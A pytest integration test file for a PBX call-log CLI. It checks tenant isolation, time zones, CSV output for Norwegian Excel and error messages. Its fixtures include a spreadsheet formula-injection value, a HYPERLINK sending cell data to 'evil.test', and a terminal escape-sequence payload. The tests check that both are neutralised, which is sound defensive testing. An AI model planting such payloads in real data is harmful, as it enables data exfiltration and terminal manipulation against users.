"""``televikar-pbx calls list``, run in-process against a migrated database on SQLite and
PostgreSQL (``db_url``), with calls written through the real repositories.

Fjordbakst AS (Europe/Oslo) has seven calls around 2026-11-28; Nordlys AS and an unknown
number have calls at the same moments, which must never show in Fjordbakst's log.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from televikar_pbx.cli import main
from televikar_pbx.db.engine import make_engine, make_sessionmaker
from televikar_pbx.db.repositories import CallStoreRepository
from televikar_pbx.reports.call_log import seconds
from televikar_pbx.reports.csvout import neutralise
from tests.helpers import run_async
from tests.integration.test_cli import Cli, free_port

UTC = dt.UTC
HEADER = "Dato;Tid;Innringer;Navn;Ventetid (s);Utfall;Agent;Samtaletid (s);Beskjed"
HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"klikk")'
MESSAGE_FILE = "/var/spool/televikar/messages/1/msg-4-1764320400.4.wav"


def at(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=UTC)


def after(moment: dt.datetime, seconds: float) -> dt.datetime:
    return moment + dt.timedelta(seconds=seconds)


@pytest.fixture
def cli(
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> Cli:
    monkeypatch.setenv("TELEVIKAR_ENV_FILE", str(tmp_path / "no.env"))
    monkeypatch.setenv("TELEVIKAR_CONTROL_PORT", str(free_port()))  # nothing listens
    monkeypatch.setenv("TELEVIKAR_DATABASE_URL", db_url)
    return Cli(capsys, db_url)


def add_calls(db_url: str, calls: list[dict[str, Any]]) -> None:
    """Write calls as the call service does: create, offer, answer, journal, end, message.

    Each call: customer, arrived, caller, name, and optionally agent (offered), answered
    (s after arrival), queue_left (s, message capture), ended (s), outcome, message.
    """

    async def write() -> None:
        engine = make_engine(db_url)
        try:
            repo = CallStoreRepository(make_sessionmaker(engine))
            for n, c in enumerate(calls):
                arrived = c["arrived"]
                call_id = await repo.create_call(
                    f"1764320400.{n}", None, c["customer"], "4721000001",
                    c.get("caller"), c.get("name"), arrived,
                )  # fmt: skip
                await repo.append_event(call_id, "arrived", arrived)
                if "agent" in c:
                    await repo.mark_offered(call_id, c["agent"])
                if "answered" in c:
                    await repo.mark_answered(call_id, c["agent"], after(arrived, c["answered"]))
                if "queue_left" in c:
                    left = after(arrived, c["queue_left"])
                    await repo.append_event(call_id, "message_capture", left, data={})
                if "message" in c:
                    await repo.add_message(
                        call_id, c["customer"], c.get("caller"), c["message"], 29
                    )
                if "ended" in c:
                    ended = after(arrived, c["ended"])
                    await repo.append_event(call_id, "ended", ended, data={})
                    await repo.mark_ended(call_id, ended, c["outcome"])
        finally:
            await engine.dispose()

    run_async(write)


FJORD, NORDLYS, KARI, PER = 1, 2, 1, 2
CALLS: list[dict[str, Any]] = [
    # 23:59:59 on the 27th in Oslo: the day before.
    {"customer": FJORD, "arrived": at("2026-11-27 22:59:59"), "caller": "4790000000",
     "agent": KARI, "answered": 3, "ended": 10, "outcome": "answered"},
    # 00:30 on the 28th in Oslo, though the 27th in UTC.
    {"customer": FJORD, "arrived": at("2026-11-27 23:30:00"), "caller": "4791234567",
     "name": "Ola Nordmann", "agent": KARI, "answered": 8.25, "ended": 133.75,
     "outcome": "answered"},
    # Withheld, offered to Per, given up at exactly 12 s: no agent shown.
    {"customer": FJORD, "arrived": at("2026-11-28 08:00:00"), "caller": "anonymous",
     "name": "Anonymous", "agent": PER, "ended": 12, "outcome": "abandoned"},
    # No number at all; overflow to message capture at 45 s, message until 75 s.
    {"customer": FJORD, "arrived": at("2026-11-28 09:00:00"), "queue_left": 45,
     "message": MESSAGE_FILE, "ended": 75, "outcome": "message"},
    # Formula injection through the number and the name; lost at 12.01 s.
    {"customer": FJORD, "arrived": at("2026-11-28 10:00:00"), "caller": HYPERLINK,
     "name": "@SUM(A1:A9)", "ended": 12.01, "outcome": "abandoned"},
    {"customer": FJORD, "arrived": at("2026-11-28 11:00:00"), "caller": "+1",
     "name": "-2+3", "agent": PER, "answered": 2, "ended": 62, "outcome": "answered"},
    # 23:59:59.5 in Oslo, still going on.
    {"customer": FJORD, "arrived": at("2026-11-28 22:59:59.5"), "caller": "4791234567",
     "name": "Ola Nordmann"},
    # 00:00 on the 29th in Oslo: the day after.
    {"customer": FJORD, "arrived": at("2026-11-28 23:00:00"), "caller": "4790000001",
     "ended": 5, "outcome": "abandoned"},
    # Others' calls at the same moments, one with a message of its own.
    {"customer": NORDLYS, "arrived": at("2026-11-27 23:30:00"), "caller": "4799999999",
     "agent": KARI, "answered": 1, "ended": 30, "outcome": "answered"},
    {"customer": NORDLYS, "arrived": at("2026-11-28 09:00:00"), "caller": "4799999998",
     "queue_left": 1, "message": "/msgs/2/msg-nordlys.wav", "ended": 40, "outcome": "message"},
    {"customer": None, "arrived": at("2026-11-28 10:00:00"), "caller": "4799999997",
     "ended": 1, "outcome": "unknown_number"},
]  # fmt: skip


@pytest.fixture
def calls(cli: Cli) -> Cli:
    cli.ok("customers", "add", "Fjordbakst AS", "--display-name", "Fjordbakst",
           "--number", "4721000001")  # fmt: skip
    cli.ok("customers", "add", "Nordlys AS", "--display-name", "Nordlys", "--number", "4721000002")
    cli.ok("agents", "add", "Kari Nordmann", "--endpoint", "agent1", "--customer", "1",
           "--customer", "2", "--secret", "s3cret-s3cret-s3cret")  # fmt: skip
    cli.ok("agents", "add", "Per", "--endpoint", "agent2", "--customer", "1",
           "--secret", "s3cret-s3cret-s3cret")  # fmt: skip
    add_calls(cli.db_url, CALLS)
    return cli


DAY = ("--from", "2026-11-28", "--to", "2026-11-28")
ROWS = [
    ["2026-11-28", "00:30:00", "4791234567", "Ola Nordmann", "8,3", "Besvart",
     "Kari Nordmann", "125,5", ""],
    ["2026-11-28", "09:00:00", "skjult nummer", "", "12,0", "Avbrutt", "", "", ""],
    ["2026-11-28", "10:00:00", "skjult nummer", "", "45,0", "Beskjed", "", "",
     "msg-4-1764320400.4.wav"],
    ["2026-11-28", "11:00:00", "'" + HYPERLINK, "'@SUM(A1:A9)", "12,1", "Avbrutt", "", "", ""],
    ["2026-11-28", "12:00:00", "'+1", "'-2+3", "2,0", "Besvart", "Per", "60,0", ""],
    ["2026-11-28", "23:59:59", "4791234567", "Ola Nordmann", "", "Ikke avsluttet", "", "", ""],
]  # fmt: skip


def test_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["calls", "list", "--help"]) == 0
    assert capsys.readouterr().out.startswith("usage: televikar-pbx calls list")


def test_table(calls: Cli) -> None:
    lines = calls.ok("calls", "list", "--customer", "fjordbakst as", *DAY).out.splitlines()
    assert lines[0].split() == [
        "Dato", "Tid", "Innringer", "Navn", "Ventetid", "(s)", "Utfall", "Agent",
        "Samtaletid", "(s)", "Beskjed",
    ]  # fmt: skip
    assert len(lines) == 1 + len(ROWS)
    assert lines[1].split() == [
        "2026-11-28", "00:30:00", "4791234567", "Ola", "Nordmann", "8,3", "Besvart", "Kari",
        "Nordmann", "125,5", "-",
    ]  # fmt: skip
    assert lines[2].split() == [
        "2026-11-28", "09:00:00", "skjult", "nummer", "-", "12,0", "Avbrutt", "-", "-", "-",
    ]  # fmt: skip
    assert "msg-4-1764320400.4.wav" in lines[3] and "45,0" in lines[3]
    assert HYPERLINK in lines[4]  # a table is not a spreadsheet: shown as it is
    assert lines[6].split()[:2] == ["2026-11-28", "23:59:59"] and "Ikke avsluttet" in lines[6]
    assert "4799999999" not in "\n".join(lines)


def test_csv_for_norwegian_excel(calls: Cli) -> None:
    out = calls.ok("calls", "list", "--customer", "1", *DAY, "--format", "csv").out
    data = out.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    assert data.count(b"\r\n") == 1 + len(ROWS) and b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows == [HEADER.split(";"), *ROWS]
    # No cell a spreadsheet would take for a formula.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_csv_bytes_whatever_the_locale(calls: Cli) -> None:
    env = {**os.environ, "LANG": "C", "LC_ALL": "C", "PYTHONIOENCODING": "latin-1"}
    done = subprocess.run(
        [sys.executable, "-m", "televikar_pbx.cli", "calls", "list", "--customer",
         "Fjordbakst AS", *DAY, "--format", "csv"],
        env=env, capture_output=True, check=False, timeout=60,
    )  # fmt: skip
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.startswith(b"\xef\xbb\xbf" + HEADER.encode("utf-8") + b"\r\n")
    assert done.stdout.decode("utf-8-sig").splitlines()[1].startswith("2026-11-28;00:30:00;")


def test_json(calls: Cli) -> None:
    shown = calls.ok("calls", "list", "--customer", "Fjordbakst AS", *DAY, "--format", "json")
    entries = shown.json()
    assert [e["time"] for e in entries] == [row[1] for row in ROWS]
    assert entries[0] == {
        "id": 2,
        "customer_id": 1,
        "arrived_at": "2026-11-28T00:30:00+01:00",
        "date": "2026-11-28",
        "time": "00:30:00",
        "caller_number": "4791234567",
        "caller_name": "Ola Nordmann",
        "caller_withheld": False,
        "wait_s": 8.25,
        "outcome": "answered",
        "agent_id": 1,
        "agent": "Kari Nordmann",
        "answered_at": "2026-11-28T00:30:08.250000+01:00",
        "ended_at": "2026-11-28T00:32:13.750000+01:00",
        "talk_s": 125.5,
        "message": None,
        "messages": [],
    }
    withheld, message, injected = entries[1], entries[2], entries[3]
    assert (withheld["caller_number"], withheld["caller_name"]) == (None, None)
    assert withheld["caller_withheld"] and withheld["agent"] is None
    assert withheld["agent_id"] is None and withheld["wait_s"] == 12.0
    assert message["caller_withheld"] and message["wait_s"] == 45.0
    assert message["message"] == {"id": 1, "file": MESSAGE_FILE, "duration_s": 29.0}
    assert message["messages"] == [
        {"id": 1, "kind": "voice", "status": "new", "file": MESSAGE_FILE}
    ]
    assert (injected["caller_number"], injected["caller_name"]) == (HYPERLINK, "@SUM(A1:A9)")
    assert injected["wait_s"] == pytest.approx(12.01)
    going_on = entries[-1]
    assert going_on["outcome"] is None and going_on["wait_s"] is None
    assert going_on["ended_at"] is None and going_on["talk_s"] is None
    assert {e["customer_id"] for e in entries} == {1}


def test_only_that_customers_calls(calls: Cli) -> None:
    entries = calls.ok("calls", "list", "--customer", "Nordlys AS", *DAY, "--format", "json").json()
    assert [(e["caller_number"], e["date"], e["time"]) for e in entries] == [
        ("4799999999", "2026-11-28", "00:30:00"),
        ("4799999998", "2026-11-28", "10:00:00"),
    ]
    assert entries[1]["message"]["file"] == "/msgs/2/msg-nordlys.wav"
    csv_out = calls.ok("calls", "list", "--customer", "2", *DAY, "--format", "csv").out
    assert "4791234567" not in csv_out and "msg-4" not in csv_out
    assert "msg-nordlys.wav" in csv_out


def test_date_range_is_inclusive_in_local_time(calls: Cli) -> None:
    def times(first: str, last: str) -> list[str]:
        argv = ("calls", "list", "--customer", "1", "--from", first, "--to", last)
        return [f"{e['date']} {e['time']}" for e in calls.ok(*argv, "--format", "json").json()]

    assert times("2026-11-27", "2026-11-27") == ["2026-11-27 23:59:59"]
    assert times("2026-11-29", "2026-11-29") == ["2026-11-29 00:00:00"]
    assert len(times("2026-11-27", "2026-11-29")) == 8
    assert times("2026-12-01", "2026-12-31") == []
    empty = ("calls", "list", "--customer", "1", "--from", "2026-12-01", "--to", "2026-12-31")
    assert calls.ok(*empty, "--format", "csv").out == "\ufeff" + HEADER + "\r\n"


def test_the_customers_time_zone(cli: Cli) -> None:
    cli.ok("customers", "add", "Sakura KK", "--display-name", "Sakura", "--number", "4721000003",
           "--timezone", "Asia/Tokyo")  # fmt: skip
    add_calls(cli.db_url, [{"customer": 1, "arrived": at("2026-11-27 23:30:00"), "caller": "81"}])
    argv = ("calls", "list", "--customer", "Sakura KK", "--format", "json")
    [entry] = cli.ok(*argv, "--from", "2026-11-28", "--to", "2026-11-28").json()
    assert entry["arrived_at"] == "2026-11-28T08:30:00+09:00"
    assert cli.ok(*argv, "--from", "2026-11-27", "--to", "2026-11-27").json() == []


def test_no_escape_sequences_to_the_terminal(cli: Cli) -> None:
    cli.ok("customers", "add", "Fjordbakst AS", "--display-name", "F", "--number", "4721000001")
    name = "\x1b]0;pwned\x07Ola\x1b[2J"
    add_calls(cli.db_url, [{"customer": 1, "arrived": at("2026-11-28 10:00"), "caller": "47",
                            "name": name}])  # fmt: skip
    argv = ("calls", "list", "--customer", "1", *DAY)
    table = cli.ok(*argv).out
    assert "\x1b" not in table and "\x07" not in table
    assert "\N{REPLACEMENT CHARACTER}]0;pwned\N{REPLACEMENT CHARACTER}Ola" in table
    assert cli.ok(*argv, "--format", "json").json()[0]["caller_name"] == name


def test_the_repeated_autumn_hour_is_labelled(cli: Cli) -> None:
    cli.ok("customers", "add", "Fjordbakst AS", "--display-name", "F", "--number", "4721000001")
    add_calls(
        cli.db_url,
        [
            {"customer": 1, "arrived": at("2026-10-25 00:30:00"), "caller": "4791234567"},
            {"customer": 1, "arrived": at("2026-10-25 01:30:00"), "caller": "4791234567"},
            {"customer": 1, "arrived": at("2026-10-25 10:00:00"), "caller": "4791234567"},
        ],
    )
    argv = ("calls", "list", "--customer", "1", "--from", "2026-10-25", "--to", "2026-10-25")
    rows = cli.ok(*argv, "--format", "csv").out.splitlines()[1:]
    assert [row.split(";")[1] for row in rows] == ["02:30:00 +02:00", "02:30:00 +01:00", "11:00:00"]
    entries = cli.ok(*argv, "--format", "json").json()
    assert [e["arrived_at"][11:] for e in entries] == [
        "02:30:00+02:00", "02:30:00+01:00", "11:00:00+01:00",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("argv", "match"),
    [
        (["--customer", "Ukjent AS", *DAY], "no customer 'Ukjent AS'"),
        (["--customer", "99", *DAY], "no customer '99'"),
        (["--customer", "1", "--from", "2026-02-30", "--to", "2026-03-01"],
         "--from: '2026-02-30' is not a date YYYY-MM-DD"),
        (["--customer", "1", "--from", "2026-11-28", "--to", "28.11.2026"],
         "--to: '28.11.2026' is not a date YYYY-MM-DD"),
        (["--customer", "1", "--from", "2026-11-29", "--to", "2026-11-28"],
         "--from 2026-11-29 is after --to 2026-11-28"),
    ],
)  # fmt: skip
def test_errors_are_one_line(calls: Cli, argv: list[str], match: str) -> None:
    calls.fails("calls", "list", *argv, match=match)


@pytest.mark.parametrize(
    ("argv", "match"),
    [
        (["--customer", "1", *DAY, "--format", "xlsx"], "invalid choice: 'xlsx'"),
        ([*DAY], "required: --customer"),
        (["--customer", "1", "--from", "2026-11-28"], "required: --to"),
    ],
)
def test_usage_errors(cli: Cli, argv: list[str], match: str) -> None:
    cli.fails("calls", "list", *argv, match=match, code=2)


# --- the rules on their own ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+47", "'+47"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ola = Kari", "Ola = Kari"),
        ("4791234567", "4791234567"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, shown: str) -> None:
    assert neutralise(cell) == shown


@pytest.mark.parametrize(
    ("micros", "shown"),
    [(0, "0,0"), (1, "0,1"), (12_000_000, "12,0"), (12_000_001, "12,1"),
     (12_100_000, "12,1"), (8_250_000, "8,3"), (-150_000, "-0,1")],
)  # fmt: skip
def test_seconds_round_up_to_the_tenth(micros: int, shown: str) -> None:
    assert seconds(dt.timedelta(microseconds=micros)) == shown
    assert json.dumps(seconds(None)) == "null"


def test_messages_and_orders_taken_on_a_call(calls: Cli) -> None:
    """Kari took a message and an order on the answered 00:30 call (call 2): the call log
    names both by kind and id, next to the voice message's file name on call 4."""
    for kind, fields in (
        ("message", ("name=Ola", "subject=Faktura", "call_back=ja")),
        ("order", ("name=Ola", "product=Kake", "quantity=1", "call_back=nei")),
    ):
        argv = [f for field in fields for f in ("--field", field)]
        calls.ok("messages", "take", "--customer", "1", "--kind", kind, "--call", "2",
                 "--agent", "agent1", *argv)  # fmt: skip
    lines = calls.ok("calls", "list", "--customer", "1", *DAY).out.splitlines()
    assert lines[1].split()[-5:] == ["125,5", "Beskjed", "3,", "Bestilling", "4"]
    assert lines[3].endswith("msg-4-1764320400.4.wav")
    assert len(lines) == 1 + len(ROWS)  # one row per call, however many messages

    out = calls.ok("calls", "list", "--customer", "1", *DAY, "--format", "csv").out
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows[1][-1] == "Beskjed 3, Bestilling 4" and rows[3][-1] == "msg-4-1764320400.4.wav"

    entries = calls.ok("calls", "list", "--customer", "1", *DAY, "--format", "json").json()
    assert entries[0]["message"] is None
    assert entries[0]["messages"] == [
        {"id": 3, "kind": "message", "status": "new", "file": None},
        {"id": 4, "kind": "order", "status": "new", "file": None},
    ]
